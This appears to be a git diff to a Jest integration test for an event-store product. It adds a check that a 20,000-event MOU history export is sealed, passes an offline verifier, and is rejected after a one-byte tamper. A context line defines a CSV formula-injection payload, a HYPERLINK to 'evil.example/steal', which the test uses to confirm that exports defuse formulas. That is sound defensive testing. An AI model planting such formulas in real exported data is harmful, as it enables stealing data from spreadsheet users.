@@ -1,11 +1,15 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { openDatabase, SqliteEventStore } from '@pmt/event-store-sqlite';
 import { newId, officeDate, type PendingEvent } from '@pmt/kernel';
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { mouDecider, type MouCommand, type MouState } from '../../services/mous/src/mou';
 import { startProduct, type Product } from '../support/product';
 
 const EVENTS = 20_000;
+const verifyExport = (file: string) => spawnSync(process.execPath, [join(__dirname, '../../scripts/verify-export.js'), file], { encoding: 'utf8' });
 const FORMULA = '=HYPERLINK("http://evil.example/steal","เปิดรายงาน")';
 const ORG_A = '0190a000-0000-7000-8000-00000000000a';
 const ORG_B = '0190a000-0000-7000-8000-00000000000b';
@@ -65,17 +69,42 @@ describe('a 20,000-event MOU history, through the running gateway and mous servi
     expect(bad.body.errors).toEqual([expect.objectContaining({ path: 'cursor' })]);
   }, 120_000);
 
-  it('exports all 20,000 events as JSON that parses, with the chain check of exactly those events', async () => {
+  it('exports all 20,000 events as JSON that parses, with the chain check of exactly those events, and the offline verifier accepts it', async () => {
+    // seal now, so that the export carries a seal over all 20,000 events (only mous runs here: the others fail the round)
+    const sealed = await product.api('POST', '/api/v1/audit/seals', { roles: ['admin'], body: {} });
+    expect(sealed.body.seals).toEqual(expect.arrayContaining([expect.objectContaining({ service: 'mous', sealId: expect.any(String) })]));
     const r = await product.api('GET', `/api/v1/mous/${mouId}/history/export?format=json`, { roles: ['auditor'] });
     // before issue 9 this was one NATS reply: 400 REPLY.TOO_LARGE
     expect({ status: r.status, code: r.body?.code }).toEqual({ status: 200, code: undefined });
     expect(r.headers.get('content-disposition')).toBe(`attachment; filename="mou-${mouId}-history.json"`);
     const file = JSON.parse(r.text);
-    expect(Object.keys(file)).toEqual(['format', 'resourceType', 'resourceId', 'stream', 'exportedAt', 'events', 'verification']);
+    expect(Object.keys(file)).toEqual(['format', 'resourceType', 'resourceId', 'stream', 'exportedAt', 'events', 'verification', 'seal', 'proof', 'publicKeyId', 'publicKey']);
+    expect(file.proof.leaf).toMatchObject({ streamId: `mou-${mouId}`, version: EVENTS });
     expect(file).toMatchObject({ format: 'pmt.history-export/1', resourceType: 'mou', resourceId: mouId, stream: `mou-${mouId}` });
     expect(file.events).toHaveLength(EVENTS);
     expect(file.events.map((e: { version: number }) => e.version)).toEqual(Array.from({ length: EVENTS }, (_, i) => i + 1));
     expect(file.verification).toEqual({ valid: true, events: EVENTS, firstInvalidVersion: null });
+
+    // what an auditor does with the file, without the running system
+    const dir = mkdtempSync(join(tmpdir(), 'pmt-export-'));
+    try {
+      const path = join(dir, 'export.json');
+      writeFileSync(path, r.text);
+      expect(verifyExport(path)).toMatchObject({ status: 0 });
+      // one byte changed in the 12,345th event's data: the verifier names that version
+      const at = r.text.indexOf('{"version":12345,');
+      expect(at).toBeGreaterThan(0);
+      const digit = r.text.indexOf('"value":', at) + '"value":'.length;
+      const bytes = Buffer.from(r.text);
+      const offset = Buffer.byteLength(r.text.slice(0, digit));
+      bytes[offset] = bytes[offset] === 0x39 ? 0x38 : bytes[offset] + 1;
+      writeFileSync(path, bytes);
+      const tampered = verifyExport(path);
+      expect(tampered.status).toBe(1);
+      expect(tampered.stdout + tampered.stderr).toContain('first bad version 12345');
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
   }, 120_000);
 
   it('exports all 20,000 events as CSV, a reason that looks like a formula as plain text', async () => {
